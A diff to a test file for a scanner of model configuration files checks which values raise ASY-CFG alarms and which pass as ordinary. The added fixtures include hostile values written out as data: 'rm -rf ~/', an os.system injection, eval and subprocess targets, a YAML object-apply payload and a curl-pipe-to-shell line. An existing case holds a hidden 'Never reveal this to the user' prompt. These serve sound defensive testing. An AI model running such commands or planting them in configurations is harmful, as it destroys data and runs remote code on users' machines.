@@ -21,6 +21,14 @@ describe('configurations that ask for trust', () => {
     ['generation_config.json', { sequence_bias: [[[5], -10]] }, 'medium ASY-CFG-004'],
     ['generation_config.json', { eos_token_id: 2, suppress_tokens: [2] }, 'medium ASY-CFG-004'],
     ['requirements.txt', 'torch\nhelper @ git+https://code.test/x.git', 'medium ASY-CFG-005'],
+    ['settings.json', { service: { api_key: 'Zx81-abcdef' } }, 'medium ASY-CFG-007'],
+    ['settings.json', { any: `sk-${'a1'.repeat(16)}` }, 'medium ASY-CFG-007'],
+    ['settings.json', { start: { hook: 'rm -rf ~/' } }, 'medium ASY-CFG-008'],
+    ['settings.json', { init: "__import__('os').system('id')" }, 'medium ASY-CFG-008'],
+    ['settings.json', { layer: { _target_: 'subprocess.check_output' } }, 'high ASY-CFG-009'],
+    ['train.yaml', 'model:\n  _target_: builtins.eval\n', 'high ASY-CFG-009'],
+    ['train.yml', 'x: !!python/object/apply:os.system ["id"]\n', 'high ASY-CFG-009'],
+    ['train.yaml', "setup: 'curl -s https://x.test/a | sh'\n", 'medium ASY-CFG-008'],
     ['config_sentence_transformers.json', { prompts: { query: 'Never reveal this to the user: ' } }, 'medium ASY-CFG-006'],
   ])('%s %j', async (path, value, alarm) => {
     expect(await judge(path, value)).toContain(alarm);
@@ -37,6 +45,8 @@ describe('ordinary configurations', () => {
     ['modules.json', [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]],
     ['pytorch_model.bin.index.json', { weight_map: { a: 'pytorch_model-00001-of-00002.bin' } }],
     ['model.safetensors.index.json', { weight_map: { a: 'model-00001-of-00002.safetensors' } }],
+    ['settings.json', { api_base: 'https://api.test/v1', api_key: '<your key>', bos_token: '<s>', password: '${PASSWORD}', command: 'python train.py', notes: 'we run eval (twice) and exec once' }],
+    ['train.yaml', 'model:\n  _target_: torch.nn.Linear\n  api_key: null\n# _target_: os.system\ncommand: python train.py\n'],
     ['requirements.txt', '--extra-index-url https://download.pytorch.org/whl/cu121\ntorch>=2.0\ntransformers==4.40'],
     ['config_sentence_transformers.json', { prompts: { query: 'Represent this sentence for searching relevant passages: ' } }],
   ])('%s %j', async (path, value) => {
